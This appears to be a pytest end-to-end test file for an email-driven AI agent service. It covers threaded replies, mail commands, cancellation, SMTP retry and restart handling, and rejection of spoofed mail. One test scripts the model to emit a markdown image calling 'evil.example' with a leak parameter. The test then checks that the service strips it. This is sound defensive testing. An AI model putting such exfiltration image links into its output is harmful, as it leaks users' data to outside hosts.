@@ -1,0 +1,215 @@
+"""Mail out, end to end: a task mail gets exactly one threaded reply, commands answer by mail,
+and the outbox sends once through SMTP trouble and restarts."""
+
+from __future__ import annotations
+
+import email
+import time
+from collections.abc import Iterator
+from email.message import EmailMessage
+from email.policy import default as default_policy
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+from tests.support.config import write_config
+from tests.support.dovecot import Dovecot
+from tests.support.mail import AGENT, MX, OWNER, message_id_of, owner_mail
+from tests.support.model_server import ModelServer, text, tool_use
+from tests.support.service import ServiceProcess, wait_until
+from tests.support.smtp import RecordedMail, SmtpServer
+
+
+@pytest.fixture
+def service(tmp_path: Path, dovecot: Dovecot, smtp_server: SmtpServer,
+            model_server: ModelServer) -> Iterator[ServiceProcess]:
+    process = ServiceProcess(write_config(tmp_path, dovecot.imap_port, smtp_server.port,
+                                          model_url=model_server.base_url,
+                                          imap_extra='sent_folder = "Sent"'))
+    yield process
+    process.kill()
+
+
+def parsed(mail: RecordedMail) -> EmailMessage:
+    message = email.message_from_bytes(mail.raw, policy=default_policy)
+    assert isinstance(message, EmailMessage)
+    return message
+
+
+VOID = ("meta", "br", "hr", "img", "link", "input")
+
+
+class _Tags(HTMLParser):
+    """Checks that every element is closed in order and collects attributes."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.attributes: list[tuple[str, str, str | None]] = []
+        self.open: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.attributes += [(tag, name, value) for name, value in attrs]
+        if tag not in VOID:
+            self.open.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag in VOID:
+            return
+        assert self.open and self.open[-1] == tag, f"</{tag}> closes {self.open[-1:]}"
+        self.open.pop()
+
+
+def test_a_task_mail_gets_exactly_one_threaded_reply_with_its_attachment(
+        dovecot: Dovecot, smtp_server: SmtpServer, model_server: ModelServer,
+        service: ServiceProcess) -> None:
+    payload = bytes(range(256)) * 40
+    model_server.script(
+        tool_use("read_file", {"path": "attachments/mail-1/a1.bin"}),
+        tool_use("attach_file", {"path": "attachments/mail-1/a1.bin"}),
+        text("## Done\n\nThe file is attached. ![x](http://evil.example/p.png?leak=1)"))
+    task = owner_mail("[files] Send the data back", "Please send the file back.",
+                      attachments=[("data.bin", "application/octet-stream", payload)])
+    dovecot.append(task)
+    service.start()
+    [mail] = smtp_server.wait_for(1, timeout=20)
+    time.sleep(1.0)
+    assert len(smtp_server.messages) == 1, "more than one reply"
+    reply = parsed(mail)
+    assert mail.rcpt_tos == [OWNER]
+    assert reply["To"] == OWNER and AGENT in reply["From"]
+    assert reply["Subject"] == "Re: [files] Send the data back"
+    assert reply["In-Reply-To"] == message_id_of(task)
+    assert message_id_of(task) in reply["References"]
+    assert reply["Auto-Submitted"] == "auto-replied"
+    assert reply["X-Mailagent-Task"] == "1"
+    plain = reply.get_body(("plain",))
+    html = reply.get_body(("html",))
+    assert plain is not None and html is not None
+    assert "The file is attached." in plain.get_content()
+    assert "Task #1" in plain.get_content() and "tokens" in plain.get_content()
+    tags = _Tags()
+    tags.feed(html.get_content())
+    assert not tags.open
+    assert not [a for a in tags.attributes if a[1] in ("src", "href", "background")]
+    assert "http://evil.example" not in " ".join(str(a) for a in tags.attributes)
+    [attachment] = list(reply.iter_attachments())
+    assert attachment.get_filename() == "a1.bin"
+    assert attachment.get_content() == payload
+    store = service.store()
+    assert [m.state for m in store.outbox()] == ["sent"]
+    service.stop()
+
+
+def test_replying_to_the_reply_continues_the_conversation(
+        dovecot: Dovecot, smtp_server: SmtpServer, service: ServiceProcess) -> None:
+    service.start()
+    dovecot.append(owner_mail("[garden] plan the beds"))
+    [first] = smtp_server.wait_for(1, timeout=20)
+    ours = parsed(first)["Message-ID"]
+    dovecot.append(owner_mail("Re: plan the beds", "add tomatoes", in_reply_to=ours))
+    second = smtp_server.wait_for(2, timeout=20)[1]
+    assert parsed(second)["In-Reply-To"] != ours
+    store = service.store()
+    assert [t.conversation_name for t in store.tasks()] == ["garden", "garden"]
+    # Our own reply arriving in the inbox (e.g. a copy) is never taken as a task.
+    dovecot.append(first.raw)
+    time.sleep(1.5)
+    assert len(store.tasks()) == 2 and len(smtp_server.messages) == 2
+    service.stop()
+
+
+def test_spoofed_and_automatic_mail_is_never_answered(
+        dovecot: Dovecot, smtp_server: SmtpServer, service: ServiceProcess) -> None:
+    service.start().wait_connected()
+    dovecot.append(owner_mail("status", "", auth=None))
+    dovecot.append(owner_mail("help", "", auth=f"{MX}; dmarc=fail"))
+    dovecot.append(owner_mail("Out of office", headers={"Auto-Submitted": "auto-replied"}))
+    store = service.store()
+    wait_until(lambda: len(store.raw_outcomes()) == 3
+               and all(s == "processed" for _, s, _, _ in store.raw_outcomes()), 10, "intake")
+    time.sleep(1.5)
+    assert smtp_server.messages == []
+    assert store.outbox() == []
+    service.stop()
+
+
+def test_status_help_and_memory_are_answered_by_mail_without_the_model(
+        dovecot: Dovecot, smtp_server: SmtpServer, model_server: ModelServer,
+        service: ServiceProcess) -> None:
+    service.start().wait_connected()
+    dovecot.append(owner_mail("status", ""))
+    dovecot.append(owner_mail("anything", "help"))
+    dovecot.append(owner_mail("[taxes] memory", ""))
+    replies = smtp_server.wait_for(3, timeout=20)
+    bodies = {parsed(m)["Subject"]: parsed(m).get_body(("plain",)).get_content()  # type: ignore[union-attr]
+              for m in replies}
+    assert "**Conversations**" in bodies["Re: status"]
+    assert "`cancel`" in bodies["Re: anything"]
+    assert "I remember nothing in the conversation taxes." in bodies["Re: [taxes] memory"]
+    assert model_server.message_requests == []
+    service.stop()
+
+
+def test_cancel_by_mail_stops_a_running_task_within_seconds(
+        dovecot: Dovecot, smtp_server: SmtpServer, model_server: ModelServer,
+        service: ServiceProcess) -> None:
+    model_server.delay_seconds = 60
+    task = owner_mail("Think for a long time")
+    dovecot.append(task)
+    service.start()
+    model_server.wait_for_requests(1, timeout=15)
+    asked = time.monotonic()
+    dovecot.append(owner_mail("Re: Think for a long time", "cancel",
+                              in_reply_to=message_id_of(task)))
+    store = service.store()
+    wait_until(lambda: store.tasks()[0].state == "cancelled", 10, "the cancelled task")
+    assert time.monotonic() - asked < 8
+    [reply] = smtp_server.wait_for(1, timeout=10)
+    assert "is being stopped" in parsed(reply).get_body(("plain",)).get_content()  # type: ignore[union-attr]
+    assert len(model_server.message_requests) == 1
+    service.stop()
+
+
+def test_a_421_is_retried_and_sent_once_and_a_550_is_recorded_and_shown(
+        tmp_path: Path, dovecot: Dovecot, smtp_server: SmtpServer,
+        service: ServiceProcess) -> None:
+    smtp_server.respond_with.append("421 4.3.0 try again later")
+    service.start()
+    dovecot.append(owner_mail("first"))
+    [sent] = smtp_server.wait_for(1, timeout=30)
+    assert parsed(sent)["Subject"] == "Re: first"
+    store = service.store()
+    wait_until(lambda: [m.state for m in store.outbox()] == ["sent"], 10, "sent state")
+    assert store.outbox()[0].attempts == 2
+    smtp_server.respond_with.append("550 5.1.1 no such user")
+    dovecot.append(owner_mail("second"))
+    wait_until(lambda: [m.state for m in store.outbox()] == ["sent", "failed"], 20, "failed")
+    assert "550" in store.outbox()[1].last_error
+    service.stop()
+    time.sleep(0.5)
+    assert len(smtp_server.messages) == 1
+    dovecot.append(owner_mail("status", ""))
+    service.start()
+    status = smtp_server.wait_for(2, timeout=20)[1]
+    body = parsed(status).get_body(("plain",)).get_content()  # type: ignore[union-attr]
+    assert "Mail that could not be sent" in body and "550" in body
+    service.stop()
+
+
+def test_a_restart_between_smtp_and_the_outbox_commit_does_not_send_twice(
+        dovecot: Dovecot, smtp_server: SmtpServer, service: ServiceProcess) -> None:
+    dovecot.create_folder("Sent")
+    # The provider files what it sends in Sent, as Gmail and others do.
+    smtp_server.on_message = lambda mail: dovecot.append(mail.raw, folder="Sent")
+    dovecot.append(owner_mail("only once"))
+    service.start(failpoint="after-smtp")
+    assert service.wait_exit(timeout=30) == -9
+    assert len(smtp_server.messages) == 1
+    service.start()
+    store = service.store()
+    wait_until(lambda: [m.state for m in store.outbox()] == ["sent"], 15, "reconciled")
+    time.sleep(1.0)
+    assert len(smtp_server.messages) == 1
+    assert "found in the Sent folder" in store.outbox()[0].last_error
+    service.stop()
